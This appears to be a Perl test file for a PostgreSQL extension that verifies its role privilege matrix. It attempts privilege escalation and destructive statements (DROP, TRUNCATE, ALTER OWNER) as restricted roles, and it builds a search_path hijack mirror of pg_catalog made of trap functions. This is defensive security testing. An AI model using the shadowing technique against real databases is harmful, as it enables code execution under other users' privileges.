# Who may do what, complete: every role x every object of the extension x every
# action, by the catalogs and by really trying; and what somebody with one of the
# levels of access may try to get further.
#
# What is expected is written here by rule.  An object that is in no rule fails
# the test: whoever adds one has to say who may use it.
use strict;
use warnings;

use FindBin;
use lib $FindBin::RealBin;

use AudTest;
use AudWorkers;
use JSON::PP;
use PostgreSQL::Test::Utils;
use Test::More;

my $node = start_node('privilege_matrix', conf => worker_conf() . "audience.databases = 'none'\n");
my $superuser = (getpwuid $<)[0];

#
# The rules
#
my @levels = qw(ingest read kafka admin);

# functions and procedures by who may execute them; what is on two lists is for both
my %functions = (
	# the type, and what views and tables' defaults call: everybody, behind the schema's USAGE
	public => [ qw(rule_in rule_out rule_recv rule_send rule jsonb rule_eq rule_ne rule_lt rule_le rule_gt rule_ge rule_cmp
		rule_hash rule_hash_extended rule_validate rule_expression rule_holds
		jsonb_match jsonb_match_commutator jsonb_match_support row_match row_match_commutator row_match_support
		row_recheck row_recheck_support match_sel match_joinsel now timestamp_text member_since transition_entries) ],
	ingest => [qw(event_ingest events_ingest profile_set profiles_set)],
	read => [ qw(segment_get segment_members segment_count segment_preview segment_diff segment_members_at segment_explain
		segment_dependents segment_id rule_explain rule_score profile_get user_segments profile_match match_profile
		engine_statistics scheduler_statistics retention_setting event_retention_limit
		kafka_partition_statistics kafka_sink_statistics kafka_errors kafka_is_here) ],
	kafka => [ qw(kafka_take_events kafka_take_segment kafka_set_origin kafka_source_stop kafka_source_hold kafka_is_here
		kafka_outbox_messages note_kafka segment_put segment_delete) ],
	admin => [ qw(segment_create segment_put segment_update segment_delete segment_add segment_remove segment_refresh
		refresh_begin refresh_step refresh_finish refresh_pending refresh_notice
		trait_create trait_drop profile_erase profile_merge profile_rebuild run_due run_retention verify grant_access
		kafka_activate kafka_cluster_set kafka_cluster_drop kafka_source_create kafka_source_pause kafka_source_resume
		kafka_source_seek kafka_source_drop kafka_sink_create kafka_sink_pause kafka_sink_resume kafka_sink_drop
		kafka_dead_letter_retry kafka_dead_letter_discard) ],
	nobody => [ qw(aggregates_add aggregates_prune definitions_change definitions_changed definitions_check definitions_lock
		definitions_lock_shared dependents engine_work engine_work_reset event_base_items event_bases_merge
		event_retention_chunk event_retention_step events_copy events_delete events_guard events_inserted
		fill fill_chunk fill_now limit_attributes limit_definition limit_definitions limit_rule limit_users kafka_check_topic kafka_cluster_store kafka_dead_letter kafka_is_fault_of_message kafka_origin
		kafka_queue_segment kafka_sink_number kafka_start kafka_wants leave_all members_list members_remove members_valid
		merge_patch note_fill note_outbox profile_patch profile_values rebuild refresh_forget refresh_later refresh_schedule
		refresh_work refreshes_prune retention_is_due retention_row retention_work row_is_here rows_restored rule_aggregates rule_fields rule_scan
		rule_segments segment_change segment_check segment_check_references segment_row set_attributes set_static state_timer
		static_change trait_definition transition_entries_remove transition_entry transition_retention_chunk
		transition_retention_step truncate_guard verify_aggregate verify_condition verify_event_leaf verify_events verify_first_key verify_leaf
		verify_property verify_rounds verify_sequence verify_statement verify_unsettled verify_user_leaf verify_value verify_window) ]);

my @tables = qw(aggregates definition_version event_bases events kafka_clusters kafka_dead_letters kafka_installation kafka_offsets
  kafka_outbox kafka_sinks kafka_sources profiles refreshes restoring retention segment_numbers segments timers traits transition_log);
my @views = qw(memberships retention_progress segment_refresh_progress stat_engine stat_kafka_errors stat_kafka_sink
  stat_kafka_source stat_scheduler transitions);
my @sequences = qw(aggregate_number_seq fill_seq kafka_dead_letter_seq kafka_outbox_seq kafka_sink_seq kafka_source_seq
  segment_number_seq transition_seq);
my @types = qw(rule);

# level => table => action => columns; what is not the engine's
my %event_columns = (events => { INSERT => [qw(user_id occurred_at event_id event_type properties context)] });
my %columns = (
	ingest => \%event_columns, admin => \%event_columns,
	kafka => {
		%event_columns,
		kafka_sources => { UPDATE => [qw(discovered cluster_id stopped)] },
		kafka_offsets => { INSERT => [qw(source partition start)], UPDATE => [qw(next_offset epoch moved_at)] } });

# level => relation => actions
my %relations = (
	ingest => {},
	read => { map { $_ => ['SELECT'] } @views, qw(segments profiles traits) },
	kafka => {
		(map { $_ => ['SELECT'] } qw(kafka_installation kafka_clusters kafka_sinks segment_numbers segments)),
		(map { $_ => ['SELECT'] } qw(kafka_sources kafka_offsets)),
		kafka_dead_letters => [qw(SELECT INSERT UPDATE)],
		kafka_outbox => [qw(SELECT DELETE)],
		kafka_dead_letter_seq => ['USAGE'] },
	admin => { map { $_ => ['SELECT'] } @views, qw(segments profiles traits events kafka_clusters kafka_dead_letters) });

# the roles, and the levels that each has
my %roles = (
	m_public => [], m_usage => [],
	(map { ("m_$_" => [$_], "m_member_$_" => [$_]) } @levels),
	m_all => [@levels],
	# is a member of admin, but does not inherit
	m_outside => []);

# Has a role the right to do that?  To a column: no matter to which, where none is given.
sub expected
{
	my ($role, $kind, $name, $action, $column) = @_;
	my @has = @{ $roles{$role} // [] };

	return 1 if $role eq $superuser;
	# a composite type goes with its table; all types are everybody's, without the schema of no use
	return 1 if $kind eq 'type';
	return $action eq 'USAGE' && $role ne 'm_public' && $role ne 'm_outside' if $kind eq 'schema';
	if ($kind eq 'function')
	{
		foreach my $class ('public', @has, (grep { $_ eq 'admin' } @has) ? qw(ingest read) : ())
		{
			return 1 if grep { $_ eq $name } @{ $functions{$class} };
		}
		return 0;
	}
	return 1 if $kind eq 'column' && grep { !defined $column || $_ eq $column } map { @{ $columns{$_}{$name}{$action} // [] } } @has;
	return scalar grep { $_ eq $action } map { @{ $relations{$_}{$name} // [] } } @has;
}

#
# Roles and something to look at
#
my $setup = "CREATE SCHEMA scratch;\nGRANT ALL ON SCHEMA scratch TO PUBLIC;\n";
$setup .= "CREATE ROLE $_ LOGIN;\n" foreach grep { $_ ne 'm_outside' } sort keys %roles;
$setup .= "CREATE ROLE m_outside LOGIN NOINHERIT;\nGRANT USAGE ON SCHEMA audience TO m_usage;\nGRANT m_admin TO m_outside;\n";
foreach my $level (@levels)
{
	$setup .= "SELECT audience.grant_access('m_$level', '$level');\nGRANT m_$level TO m_member_$level, m_all;\n";
}
$node->safe_psql('postgres', $setup);
$node->safe_psql('postgres', <<'SQL');
SELECT audience.trait_create('spent', 'sum', 'purchase', 'amount');
SELECT audience.segment_create('Spenders', 'spent > 100', id => 'spenders');
SELECT audience.segment_create('List', type => 'static', id => 'list');
SELECT audience.events_ingest((SELECT jsonb_agg(jsonb_build_object('userId', 'u' || i % 20, 'eventType', 'purchase',
	'eventId', i::text, 'properties', jsonb_build_object('amount', i))) FROM generate_series(1, 100) i));
SELECT audience.profile_set('u1', '{"secret": "of u1"}');
SELECT audience.kafka_cluster_set('main', '{"bootstrap.servers": "127.0.0.1:9"}');
SELECT audience.kafka_source_create('in');
SELECT audience.kafka_sink_create('out', 'transitions');
INSERT INTO audience.kafka_dead_letters (source, stream, cluster, topic, partition, "offset", value, sqlstate, message)
VALUES ('in', 'events', 'main', 'in', 0, 1, 'x', '22P02', 'x');
SQL

#
# No object without a rule
#
my %listed;
$listed{$_}++ foreach map { @{ $functions{$_} } } keys %functions;
my @functions = rows_of($node, <<'SQL');
SELECT p.oid, p.proname, p.prokind,
	'internal'::regtype = ANY (p.proargtypes::oid[]) OR 'cstring'::regtype = ANY (p.proargtypes::oid[])
		OR p.prorettype = 'cstring'::regtype,
	p.prorettype = 'trigger'::regtype,
	coalesce((SELECT string_agg(format('(SELECT NULL::%s)', format_type(t, NULL)), ', ' ORDER BY n) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a (t, n)), ''),
	p.prosecdef
FROM pg_proc p WHERE p.pronamespace = 'audience'::regnamespace ORDER BY p.proname, p.oid
SQL
is(join(' ', sort map { $_->[1] } @functions), join(' ', sort(keys %listed, 'rule_validate')), 'every function is in a rule, once');
sub names { return join ' ', sort map { $_->[0] } rows_of($node, shift); }
is(names("SELECT relname FROM pg_class WHERE relnamespace = 'audience'::regnamespace AND relkind IN ('r', 'p', 'f')"),
	join(' ', sort @tables), 'every table is in a rule');
is(names("SELECT relname FROM pg_class WHERE relnamespace = 'audience'::regnamespace AND relkind IN ('v', 'm')"),
	join(' ', sort @views), 'every view is in a rule');
is(names("SELECT relname FROM pg_class WHERE relnamespace = 'audience'::regnamespace AND relkind = 'S'"),
	join(' ', sort @sequences), 'every sequence is in a rule');
is(names("SELECT typname FROM pg_type WHERE typnamespace = 'audience'::regnamespace AND typtype <> 'c' AND typelem = 0"),
	join(' ', sort @types), 'every type is in a rule');
is($node->safe_psql('postgres', <<'SQL'), 'cast function operator operator class operator family schema sequence table trigger type view',
SELECT string_agg(DISTINCT o.type, ' ' ORDER BY o.type)
FROM (SELECT (pg_identify_object(d.classid, d.objid, d.objsubid)).type FROM pg_depend d
	WHERE d.deptype = 'e' AND d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'audience_manager')
	UNION SELECT 'schema' UNION SELECT 'trigger' UNION SELECT 'table' FROM pg_trigger) o
WHERE o.type NOT IN ('procedure')
SQL
	'there are no objects of other kinds');

#
# The matrix, by the catalogs
#
my $maintain = $node->safe_psql('postgres', 'SHOW server_version_num') >= 170000 ? ',MAINTAIN' : '';
my @matrix = rows_of($node, <<"SQL");
WITH roles (role) AS (SELECT unnest(string_to_array('@{[ join ',', sort(keys %roles), $superuser ]}', ','))),
cells AS (
	SELECT 'schema' AS kind, n.nspname::text AS name, a AS action, '' AS col, n.oid AS oid
	FROM pg_namespace n, unnest('{USAGE,CREATE}'::text[]) a WHERE n.nspname = 'audience'
	UNION ALL
	SELECT 'function', p.proname, 'EXECUTE', '', p.oid FROM pg_proc p WHERE p.pronamespace = 'audience'::regnamespace
	UNION ALL
	SELECT 'relation', c.relname, a, '', c.oid
	FROM pg_class c, unnest('{SELECT,INSERT,UPDATE,DELETE,TRUNCATE,REFERENCES,TRIGGER$maintain}'::text[]) a
	WHERE c.relnamespace = 'audience'::regnamespace AND c.relkind IN ('r', 'p', 'f', 'v', 'm')
	UNION ALL
	SELECT 'sequence', c.relname, a, '', c.oid
	FROM pg_class c, unnest('{SELECT,UPDATE,USAGE}'::text[]) a
	WHERE c.relnamespace = 'audience'::regnamespace AND c.relkind = 'S'
	UNION ALL
	SELECT 'column', c.relname, a, t.attname, c.oid
	FROM pg_class c JOIN pg_attribute t ON t.attrelid = c.oid, unnest('{SELECT,INSERT,UPDATE,REFERENCES}'::text[]) a
	WHERE c.relnamespace = 'audience'::regnamespace AND c.relkind IN ('r', 'p', 'f', 'v', 'm') AND t.attnum > 0 AND NOT t.attisdropped
	UNION ALL
	SELECT 'type', t.typname, 'USAGE', '', t.oid FROM pg_type t WHERE t.typnamespace = 'audience'::regnamespace AND t.typelem = 0)
SELECT r.role, c.kind, c.name, c.action, c.col, CASE c.kind
	WHEN 'schema' THEN has_schema_privilege(r.role, c.oid, c.action)
	WHEN 'function' THEN has_function_privilege(r.role, c.oid, c.action)
	WHEN 'relation' THEN has_table_privilege(r.role, c.oid, c.action)
	WHEN 'sequence' THEN has_sequence_privilege(r.role, c.oid, c.action)
	WHEN 'column' THEN has_column_privilege(r.role, c.oid, c.col, c.action)
	ELSE has_type_privilege(r.role, c.oid, c.action) END
FROM roles r, cells c
SQL
my @wrong;
my %granted;
foreach my $cell (@matrix)
{
	my ($role, $kind, $name, $action, $column, $has) = @$cell;
	my $should = expected($role, $kind, $name, $action, $column) ? 't' : 'f';
	push @wrong, "$role: $action on $kind $name" . ($column ne '' ? ".$column" : '') . ": $has, not $should" if $has ne $should;
	$granted{$role}++ if $has eq 't';
}
cmp_ok(scalar @matrix, '>', 10_000, scalar(@matrix) . ' cells of the matrix');
is(join("\n", @wrong), '', 'each is as the rules say');
note "granted: " . join ', ', map { "$_ $granted{$_}" } sort keys %granted;
is($node->safe_psql('postgres', <<'SQL'), '', 'nobody may pass anything on');
SELECT c.relname, a.grantee::regrole FROM pg_class c, aclexplode(c.relacl) a
WHERE c.relnamespace = 'audience'::regnamespace AND a.is_grantable AND a.grantee <> c.relowner
UNION ALL
SELECT p.proname, a.grantee::regrole FROM pg_proc p, aclexplode(p.proacl) a
WHERE p.pronamespace = 'audience'::regnamespace AND a.is_grantable AND a.grantee <> p.proowner
SQL

#
# The functions' making
#
is($node->safe_psql('postgres', <<'SQL'), '', 'every SECURITY DEFINER function has its search_path pinned');
SELECT oid::regprocedure FROM pg_proc
WHERE pronamespace = 'audience'::regnamespace AND prosecdef
	AND NOT coalesce('search_path=pg_catalog, pg_temp' = ANY (proconfig), false)
SQL
is(names(<<'SQL'), 'match_profile segment_refresh', 'and every other in SQL or PL/pgSQL, but two whose every name is qualified');
SELECT proname FROM pg_proc p JOIN pg_language l ON l.oid = p.prolang
WHERE pronamespace = 'audience'::regnamespace AND lanname <> 'c'
	AND NOT coalesce('search_path=pg_catalog, pg_temp' = ANY (proconfig), false)
SQL
is($node->safe_psql('postgres', <<'SQL'), '', 'none is leakproof, a window function, or in a language that is not trusted but C');
SELECT oid::regprocedure FROM pg_proc p WHERE pronamespace = 'audience'::regnamespace
	AND (proleakproof OR prokind NOT IN ('f', 'p')
		OR prolang NOT IN (SELECT oid FROM pg_language WHERE lanpltrusted OR lanname = 'c'))
SQL
is($node->safe_psql('postgres', <<'SQL'), '1|1', 'all belongs to one owner, who is the extension\'s');
SELECT count(DISTINCT o.owner), count(*) FILTER (WHERE o.owner = e.extowner)
FROM (SELECT DISTINCT owner FROM (
	SELECT proowner AS owner FROM pg_proc WHERE pronamespace = 'audience'::regnamespace
	UNION SELECT relowner FROM pg_class WHERE relnamespace = 'audience'::regnamespace
	UNION SELECT typowner FROM pg_type WHERE typnamespace = 'audience'::regnamespace
	UNION SELECT oprowner FROM pg_operator WHERE oprnamespace = 'audience'::regnamespace
	UNION SELECT nspowner FROM pg_namespace WHERE nspname = 'audience') u) o, pg_extension e
WHERE e.extname = 'audience_manager'
SQL

#
# Really tried
#

# Runs statements one after the other as a role, in one session; a transaction that one begins is rolled back.  Returns the
# SQLSTATE of each, '' where it succeeded.
my $nscripts = 0;
sub states
{
	my ($role, $prelude, @statements) = @_;
	my $path = PostgreSQL::Test::Utils::tempdir() . '/tried_' . $nscripts++ . '.sql';
	my ($out, $error) = ('', '');

	append_to_file($path, join "\n", '\set VERBOSITY sqlstate', $prelude =~ tr/\n/ /r, (map { (tr/\n/ /r . ';', 'ROLLBACK;') } @statements), '');
	$node->psql('postgres', undef, extra_params => [ '-U', $role, '-f', $path ], stdout => \$out, stderr => \$error, on_error_stop => 0);
	my @states = ('') x @statements;
	while ($error =~ /^psql:[^\n]*?:(\d+): (?:ERROR|FATAL|PANIC):\s+([0-9A-Z]{5})/mg)
	{
		$states[ ($1 - 3) / 2 ] = $2 if $1 >= 3;
	}
	push @states, $error if $error =~ /connection|FATAL|PANIC/;
	return @states;
}

my $ntried = 0;
foreach my $role (sort keys %roles)
{
	my (@statements, @should);
	my $in = $role ne 'm_public' && $role ne 'm_outside';
	my $try = sub {
		my ($may, $sql, $alone) = @_;
		push @statements, $alone ? $sql : "BEGIN\\; $sql";
		push @should, $may && $in ? 1 : 0;
	};

	foreach my $name (@tables, @views)
	{
		my $has = sub { return expected($role, 'relation', $name, $_[0]) };
		my $is_view = grep { $_ eq $name } @views;

		$try->($has->('SELECT'), "SELECT * FROM audience.$name LIMIT 1");
		# of one column is enough for these
		$try->($has->('SELECT') && expected($role, 'column', $name, 'UPDATE'), "SELECT * FROM audience.$name FOR UPDATE") unless $is_view;
		$try->(expected($role, 'column', $name, 'INSERT'), "INSERT INTO audience.$name DEFAULT VALUES") unless $is_view;
		$try->($has->('DELETE'), "DELETE FROM audience.$name") unless $is_view;
		$try->($has->('TRUNCATE'), "TRUNCATE audience.$name") unless $is_view;
		$try->(0, "LOCK audience.$name IN ACCESS EXCLUSIVE MODE") unless grep { $has->($_) } qw(UPDATE DELETE);
		$try->(0, "CREATE TRIGGER t AFTER INSERT ON audience.$name EXECUTE FUNCTION pg_catalog.suppress_redundant_updates_trigger()");
		$try->(0, "ALTER TABLE audience.$name OWNER TO $role");
		$try->(0, "DROP TABLE audience.$name") unless $is_view;
		$try->(0, "CREATE RULE r AS ON INSERT TO audience.$name DO INSTEAD NOTHING");
		$try->(0, "CREATE TEMP TABLE child () INHERITS (audience.$name)") unless $is_view;
	}
	$try->(expected($role, 'relation', $_, 'USAGE'), "SELECT nextval('audience.$_')") foreach @sequences;
	$try->(0, "SELECT setval('audience.$_', 1)") foreach @sequences;
	$try->(expected($role, 'column', 'events', 'INSERT', 'user_id'), "INSERT INTO audience.events (user_id, event_type) VALUES ('tried', 't')");
	$try->(0, "INSERT INTO audience.events (user_id, event_type, received_at) VALUES ('tried', 't', now())");
	$try->(0, "CREATE TABLE audience.x (a int)");
	$try->(0, "CREATE TABLE scratch.x (u text, t timestamptz, e text, FOREIGN KEY (u, t, e) REFERENCES audience.events)");
	foreach my $function (@functions)
	{
		my (undef, $name, $kind, $unreachable, $is_trigger, $arguments) = @$function;
		next if $unreachable eq 't';
		if ($is_trigger eq 't')
		{
			$try->(0, "CREATE TEMP TABLE mine (a int)\\; CREATE TRIGGER t AFTER INSERT ON mine EXECUTE FUNCTION audience.$name()");
			next;
		}
		$try->(expected($role, 'function', $name, 'EXECUTE'),
			$kind eq 'p' ? "CALL audience.$name(@{[ $arguments =~ s/\(SELECT (.*?)\)/$1/gr ]})" : "SELECT audience.$name($arguments)", $kind eq 'p');
	}
	my @states = states($role, 'SET client_min_messages = error;', @statements);
	my @different;
	foreach my $i (0 .. $#statements)
	{
		# who may gets what comes of it, but not that it may not
		my $refused = $states[$i] eq '42501' || $states[$i] eq '42809';
		push @different, "$statements[$i]: $states[$i]" if $should[$i] ? $states[$i] eq '42501' : !$refused;
	}
	is(join("\n", @different, @states > @statements ? $states[-1] : ()), '', "$role: " . scalar(@statements) . ' statements do what they may');
	$ntried += @statements;
}
note "$ntried statements tried";
is(join(' ', states('m_outside', 'SET ROLE m_admin;', "SELECT audience.segment_count('spenders')")), '', 'who does not inherit can take on the role');
verify_empty($node);

#
# Hostile objects: a mirror of all of pg_catalog, in front of it
#
# Every function and operator of pg_catalog has a twin of the same name and types
# in the hostile role's schema, every type one in its temporary schema, and every
# table of pg_catalog and of the extension one in both; the twins say who runs them.
#
$node->safe_psql('postgres', 'CREATE SCHEMA mirror AUTHORIZATION m_all');
my $mirror = <<'SQL';
SET client_min_messages = error;
DO $do$
DECLARE
	o record;
BEGIN
	FOR o IN
		SELECT p.proname, p.proretset, format_type(p.prorettype, NULL) AS result,
			(SELECT string_agg(format_type(t, NULL), ', ' ORDER BY n) FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a (t, n)) AS arguments
		FROM pg_catalog.pg_proc p
		WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind IN ('f', 'a', 'w')
			AND p.prorettype NOT IN ('trigger'::regtype, 'event_trigger'::regtype, 'internal'::regtype, 'cstring'::regtype, 'language_handler'::regtype)
			AND NOT p.proargtypes::oid[] && ARRAY['internal', 'cstring', '"any"', 'unknown', 'void', 'pg_ddl_command']::regtype[]::oid[]
	LOOP
		EXECUTE format('CREATE FUNCTION mirror.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', o.proname, o.arguments,
			CASE WHEN o.proretset THEN 'SETOF' END, o.result,
			format('BEGIN RAISE EXCEPTION USING MESSAGE = pg_catalog.concat(''caught: function %s as '', current_user); END', o.proname));
	END LOOP;
	-- what takes anything has a twin for texts, which fits texts better
	FOR o IN
		SELECT DISTINCT p.proname, n FROM pg_catalog.pg_proc p, generate_series(1, 4) n
		WHERE p.pronamespace = 'pg_catalog'::regnamespace AND '"any"'::regtype = ANY (p.proargtypes::oid[])
	LOOP
		BEGIN
			EXECUTE format('CREATE FUNCTION mirror.%I(%s) RETURNS text LANGUAGE plpgsql AS %L', o.proname,
				(SELECT string_agg('text', ', ') FROM generate_series(1, o.n)),
				format('BEGIN RAISE EXCEPTION USING MESSAGE = pg_catalog.concat(''caught: function %s as '', current_user); END', o.proname));
		EXCEPTION WHEN duplicate_function THEN
			NULL;
		END;
	END LOOP;
	FOR o IN
		SELECT r.oprname, format_type(r.oprleft, NULL) AS "left", format_type(r.oprright, NULL) AS "right", r.oprleft = 0 AS prefix, p.proname
		FROM pg_catalog.pg_operator r JOIN pg_catalog.pg_proc p ON p.oid = r.oprcode WHERE r.oprnamespace = 'pg_catalog'::regnamespace
	LOOP
		EXECUTE format('CREATE OPERATOR mirror.%s (%s RIGHTARG = %s, FUNCTION = mirror.%I)', o.oprname,
			CASE WHEN NOT o.prefix THEN format('LEFTARG = %s,', o."left") END, o."right", o.proname);
	END LOOP;
	FOR o IN SELECT c.relname FROM pg_catalog.pg_class c
		WHERE c.relnamespace IN ('pg_catalog'::regnamespace, 'audience'::regnamespace) AND c.relkind IN ('r', 'v')
	LOOP
		EXECUTE format('CREATE TEMPORARY TABLE %I (user_id text)', o.relname);
		EXECUTE format('CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON pg_temp.%I EXECUTE FUNCTION mirror.caught()', o.relname);
		EXECUTE format('CREATE TABLE mirror.%I (user_id text)', o.relname);
	END LOOP;
	FOR o IN SELECT t.typname FROM pg_catalog.pg_type t
		WHERE t.typnamespace = 'pg_catalog'::regnamespace AND t.typtype = 'b' AND t.typelem = 0
			AND NOT EXISTS (SELECT FROM pg_catalog.pg_class c WHERE c.relname = t.typname)
	LOOP
		EXECUTE format('CREATE DOMAIN pg_temp.%I AS pg_catalog.int4 CHECK (false)', o.typname);
	END LOOP;
	CREATE DOMAIN pg_temp.rule AS pg_catalog.int4 CHECK (false);
END
$do$;
SET search_path = mirror, pg_temp, audience, pg_catalog;
SQL
my $caught = <<'SQL';
CREATE FUNCTION mirror.caught() RETURNS trigger LANGUAGE plpgsql AS
	'BEGIN RAISE EXCEPTION USING MESSAGE = pg_catalog.concat(''caught: trigger as '', current_user); END';
SQL
# what is called by somebody with all levels; each function that a level may execute is in it
my $calls = <<'SQL';
INSERT INTO audience.events (user_id, event_id, event_type, properties) VALUES ('h1', '1', 'purchase', '{"amount":101}');
SELECT audience.event_ingest('{"userId":"h2","eventType":"purchase","properties":{"amount":101}}') IS NULL;
SELECT audience.events_ingest('[{"userId":"h3","eventType":"purchase","properties":{"amount":101}},{"userId":"h4","eventType":"x"}]');
SELECT audience.profile_set('h4', '{"country":"DE"}');
SELECT audience.profiles_set('[{"userId":"h5","attributes":{"a":[1]}},{"userId":7,"attributes":{}}]');
SELECT audience.trait_create('ht', 'sum', 'purchase', 'amount', 'amount > 1', '36 hours');
SELECT audience.segment_create('Hostile', 'ht > 100 AND count(purchase, LAST ''1 day'') >= 1 AND NOT IN SEGMENT ''list'' AND NOT SEQUENCE(a, b WITHIN ''1 hour'')');
SELECT audience.segment_put('{"name":"Put","rules":{"field":"country","operator":"eq","value":"DE"}}');
SELECT audience.segment_update('hostile', rules => 'totalSpent > 100 OR SAMPLE(1, ''x'')');
SELECT audience.segment_update('put', rules => 'country = ''FR''', refresh => 'later');
SELECT audience.refresh_pending('put') IS NULL;
SELECT audience.refresh_notice(audience.refresh_pending('put')) IS NULL;
SELECT audience.refresh_begin('put') IS NULL;
SELECT audience.refresh_step(audience.refresh_begin('put'), 1000);
SELECT audience.refresh_finish(audience.refresh_begin('put'));
CALL audience.segment_refresh('hostile');
SELECT audience.segment_add('list', ARRAY['h1']);
SELECT audience.segment_remove('list', ARRAY['h1']);
SELECT audience.segment_get('hostile') IS NULL;
SELECT audience.segment_id('Some Name');
SELECT user_id FROM audience.segment_members('hostile') ORDER BY 1;
SELECT audience.segment_count('hostile');
SELECT * FROM audience.segment_preview('totalSpent > 100');
SELECT * FROM audience.segment_diff('hostile', 'true') ORDER BY 1;
SELECT * FROM audience.segment_members_at('hostile', pg_catalog.now());
SELECT * FROM audience.segment_explain('hostile', 'h1');
SELECT * FROM audience.rule_explain('totalSpent > 100', 'h1');
SELECT audience.rule_score('totalSpent > 100', 'h1');
SELECT audience.segment_dependents('list');
SELECT audience.profile_get('h1') IS NULL;
SELECT segment_id FROM audience.user_segments('h1');
SELECT p.user_id FROM audience.profiles p WHERE audience.profile_match(p, 'totalSpent > 100'::audience.rule) ORDER BY 1;
SELECT p.user_id FROM audience.profiles p WHERE audience.match_profile('totalSpent > 100'::audience.rule, p) ORDER BY 1;
SELECT p.user_id FROM audience.profiles p WHERE p.attributes OPERATOR(audience.|=) 'country = ''DE'''::audience.rule;
SELECT s.id FROM audience.segments s WHERE s OPERATOR(audience.|=) 'id = ''hostile'' AND version > 1 AND created_at AFTER ''2020-01-01'''::audience.rule;
SELECT audience.rule_holds('{"a":1.5}', 'a BETWEEN 1 AND 2');
SELECT audience.profile_merge('h2', 'h3');
SELECT audience.profile_erase('h3') IS NULL;
SELECT audience.profile_rebuild();
SELECT audience.run_due();
SELECT audience.run_retention();
SELECT audience.grant_access('m_usage', 'ingest');
SELECT segment_id, user_id FROM audience.memberships ORDER BY 1, 2;
SELECT segment_id, action FROM audience.transitions WHERE user_id OPERATOR(pg_catalog.=) 'h1' ORDER BY seq;
SELECT kind FROM audience.retention_progress;
SELECT segment_id FROM audience.segment_refresh_progress;
SELECT state FROM audience.stat_scheduler;
SELECT waits FROM audience.stat_engine;
SELECT source, state FROM audience.stat_kafka_source;
SELECT sink, state FROM audience.stat_kafka_sink;
SELECT * FROM audience.stat_kafka_errors;
SELECT audience.engine_statistics() IS NULL, audience.scheduler_statistics() IS NULL, audience.retention_setting('events'), audience.event_retention_limit() IS NULL;
SELECT audience.kafka_partition_statistics(); SELECT audience.kafka_sink_statistics(); SELECT audience.kafka_errors();
SELECT audience.kafka_is_here(i) FROM audience.kafka_installation i;
SELECT audience.kafka_cluster_set('hc', '{"bootstrap.servers": "127.0.0.1:9"}');
SELECT audience.kafka_activate();
SELECT audience.kafka_source_create('hs', 'events', 'hc', '2026-01-01T00:00:00Z', '{"max_bad": 0.5, "out_of_range": "earliest"}');
SELECT audience.kafka_source_pause('hc/hs'); SELECT audience.kafka_source_resume('hc/hs'); SELECT audience.kafka_source_seek('hc/hs', 'latest');
SELECT audience.kafka_source_hold('hc/hs') IS NULL;
SELECT audience.kafka_source_stop(-1, 'x');
SELECT audience.kafka_source_drop('hc/hs');
SELECT audience.kafka_sink_create('ht', 'segments', 'hc');
SELECT audience.kafka_sink_pause('hc/ht'); SELECT audience.kafka_sink_resume('hc/ht');
SELECT audience.segment_delete('hostile');
SELECT pg_catalog.count(*) FROM audience.kafka_outbox_messages(1, ARRAY(SELECT o.id FROM audience.kafka_outbox o));
SELECT audience.kafka_sink_drop('hc/ht');
SELECT audience.kafka_cluster_drop('hc');
SELECT audience.kafka_take_events('in', '{0}', '{5}', ARRAY[pg_catalog.now()], ARRAY[pg_catalog.convert_to('{"userId":"h6","eventType":"x"}', 'UTF8')]);
SELECT audience.kafka_take_segment('main', 'segs', 'a', pg_catalog.convert_to('{"action":"created","segmentId":"a","segment":{"name":"A","rules":"true"}}', 'UTF8'));
SELECT audience.kafka_take_segment('main', 'segs', 'a', NULL);
SELECT audience.kafka_set_origin(NULL, NULL);
SELECT audience.note_kafka();
INSERT INTO audience.kafka_dead_letters (source, stream, cluster, topic, partition, "offset", value, sqlstate, message)
	VALUES ('in', 'segments', 'main', 'in', 0, 7, 'x', '22P02', 'x');
SELECT audience.kafka_dead_letter_retry(id) FROM audience.kafka_dead_letters;
SELECT audience.kafka_dead_letter_discard(id) FROM audience.kafka_dead_letters;
SELECT audience.segment_delete('put');
SELECT audience.trait_drop('ht');
SELECT audience.rule_validate('a = '), audience.rule_validate('{}'::pg_catalog.jsonb), audience.rule_expression('a = 1'), audience.timestamp_text('2026-01-01Z');
SELECT * FROM audience.verify();
SQL
is( join(' ', sort grep { my $name = $_; $calls !~ /audience\.$name\(/ } map { @{ $functions{$_} } } @levels), '',
	'what is called is every function that a level lets in to');

# Runs the calls under settings; returns what they print, and what goes wrong.
sub run_calls
{
	my ($prelude) = @_;
	my ($out, $error) = ('', '');
	my $path = PostgreSQL::Test::Utils::tempdir() . '/calls_' . $nscripts++ . '.sql';
	append_to_file($path, "$prelude\n$calls");
	$node->psql('postgres', undef, extra_params => [ '-U', 'm_all', '-f', $path ], stdout => \$out, stderr => \$error, on_error_stop => 0);
	return ($out, $error);
}
# so that all three find the same
my $pristine = <<'SQL';
SELECT audience.profile_erase(user_id) FROM audience.profiles WHERE user_id ~ '^(h|7|tried)';
DELETE FROM audience.kafka_outbox;
INSERT INTO audience.kafka_dead_letters (source, stream, cluster, topic, partition, "offset", value, sqlstate, message)
VALUES ('in', 'events', 'main', 'in', 0, 1, 'x', '22P02', 'x');
REVOKE ALL ON ALL TABLES IN SCHEMA audience FROM m_usage;
SQL
$node->safe_psql('postgres', "DELETE FROM audience.kafka_dead_letters; $pristine");
my ($plain, $plain_error) = run_calls('SET client_min_messages = error;');
is($plain_error, '', 'the calls work');
$node->safe_psql('postgres', $pristine);
$node->safe_psql('postgres', $caught, extra_params => [ '-U', 'm_all' ]);
my ($hostile, $hostile_error) = run_calls($mirror);
is($hostile_error, '', 'among a mirror of pg_catalog nothing hostile is run by anybody');
is($hostile, $plain, 'and all comes to the same');
cmp_ok($node->safe_psql('postgres', "SELECT count(*) FROM pg_proc WHERE pronamespace = 'mirror'::regnamespace"), '>', 2000, 'the mirror is there');
cmp_ok($node->safe_psql('postgres', "SELECT count(*) FROM pg_operator WHERE oprnamespace = 'mirror'::regnamespace"), '>', 700, 'with its operators');
my (undef, $trap) = ('', '');
$node->psql('postgres', "SET search_path = mirror, pg_catalog; SELECT 1 + 1", extra_params => [ '-U', 'm_all' ], stderr => \$trap);
like($trap, qr/caught: function int4pl as m_all/, 'and would say so');

# settings that anybody may set, and that change what a text or an expression means
